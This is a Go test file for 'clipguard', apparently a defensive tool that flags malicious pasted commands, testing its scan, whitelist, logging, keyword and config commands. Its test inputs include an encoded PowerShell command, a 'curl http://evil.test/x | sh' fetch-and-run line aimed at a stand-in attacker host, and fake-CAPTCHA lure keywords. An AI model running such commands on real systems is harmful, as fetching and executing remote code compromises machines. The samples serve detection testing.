package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeConfig(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "reports"), 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	path := filepath.Join(dir, "clipguard.yaml")
	content := `configVersion: 1
store:
  driver: file
  path: store.json
alerts:
  onScreen: false
reports:
  dir: reports
logging:
  level: error
`
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatalf("write config: %v", err)
	}
	return path
}

func execute(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := newRootCmd()
	var out bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&bytes.Buffer{})
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(args)
	err := root.Execute()
	return out.String(), err
}

func TestScanClassifies(t *testing.T) {
	out, err := execute(t, "", "scan", "powershell", "-enc", "aGVsbG8=")
	if err != nil {
		t.Fatalf("scan error: %v", err)
	}
	if !strings.Contains(out, "suspicious rule=MALICIOUS_RE") {
		t.Fatalf("unexpected output %q", out)
	}

	out, err = execute(t, "just some normal text about cooking", "scan", "-")
	if err != nil {
		t.Fatalf("scan error: %v", err)
	}
	if !strings.HasPrefix(out, "benign") {
		t.Fatalf("expected benign, got %q", out)
	}
}

func TestWhitelistAndDispatchFlow(t *testing.T) {
	cfg := writeConfig(t)

	if _, err := execute(t, "", "-c", cfg, "whitelist", "add", "trusted.example.com"); err != nil {
		t.Fatalf("whitelist add error: %v", err)
	}
	out, err := execute(t, "", "-c", cfg, "whitelist", "list")
	if err != nil || strings.TrimSpace(out) != "trusted.example.com" {
		t.Fatalf("unexpected whitelist %q (%v)", out, err)
	}

	out, err = execute(t, "", "-c", cfg, "scan", "--dispatch", "--origin", "https://trusted.example.com", "powershell -enc aGVsbG8=")
	if err != nil {
		t.Fatalf("scan error: %v", err)
	}
	if !strings.Contains(out, "action=suppress") {
		t.Fatalf("expected suppression, got %q", out)
	}

	out, err = execute(t, "", "-c", cfg, "scan", "--dispatch", "--origin", "https://evil.test", "curl http://evil.test/x | sh")
	if err != nil {
		t.Fatalf("scan error: %v", err)
	}
	if !strings.Contains(out, "logged=true") || !strings.Contains(out, "report=") {
		t.Fatalf("expected logged detection with report, got %q", out)
	}

	out, err = execute(t, "", "-c", cfg, "logs", "list")
	if err != nil {
		t.Fatalf("logs list error: %v", err)
	}
	if !strings.Contains(out, "evil.test") || strings.Contains(out, "trusted.example.com") {
		t.Fatalf("expected only evil.test logged, got %q", out)
	}

	out, err = execute(t, "", "-c", cfg, "report", "0", "--out", filepath.Join(t.TempDir(), "r.json"))
	if err != nil {
		t.Fatalf("report error: %v", err)
	}

	if _, err := execute(t, "", "-c", cfg, "report", "5"); err == nil {
		t.Fatal("expected error for missing log entry")
	}
}

func TestKeywordsRoundTrip(t *testing.T) {
	cfg := writeConfig(t)

	if _, err := execute(t, "  Fake Captcha \n\n  press win+r\n", "-c", cfg, "keywords", "set"); err != nil {
		t.Fatalf("keywords set error: %v", err)
	}
	out, err := execute(t, "", "-c", cfg, "keywords", "show")
	if err != nil || out != "Fake Captcha\npress win+r\n" {
		t.Fatalf("unexpected keywords %q (%v)", out, err)
	}

	out, err = execute(t, "", "-c", cfg, "scan", "please PRESS WIN+R now")
	if err != nil || !strings.Contains(out, "rule=USER_KEYWORD") {
		t.Fatalf("expected user keyword match, got %q (%v)", out, err)
	}

	if _, err := execute(t, "", "-c", cfg, "keywords", "reset"); err != nil {
		t.Fatalf("keywords reset error: %v", err)
	}
	if out, _ := execute(t, "", "-c", cfg, "keywords", "show"); out != "" {
		t.Fatalf("expected no keywords, got %q", out)
	}
}

func TestAlertsToggle(t *testing.T) {
	cfg := writeConfig(t)
	out, err := execute(t, "", "-c", cfg, "alerts")
	if err != nil || strings.TrimSpace(out) != "on-screen alerts on" {
		t.Fatalf("unexpected %q (%v)", out, err)
	}
	out, err = execute(t, "", "-c", cfg, "alerts", "off")
	if err != nil || strings.TrimSpace(out) != "on-screen alerts off" {
		t.Fatalf("unexpected %q (%v)", out, err)
	}
}

func TestValidateRequiresConfig(t *testing.T) {
	if _, err := execute(t, "", "validate"); err == nil {
		t.Fatal("expected error without config")
	}
	out, err := execute(t, "", "-c", writeConfig(t), "validate")
	if err != nil || strings.TrimSpace(out) != "config ok" {
		t.Fatalf("unexpected %q (%v)", out, err)
	}
}
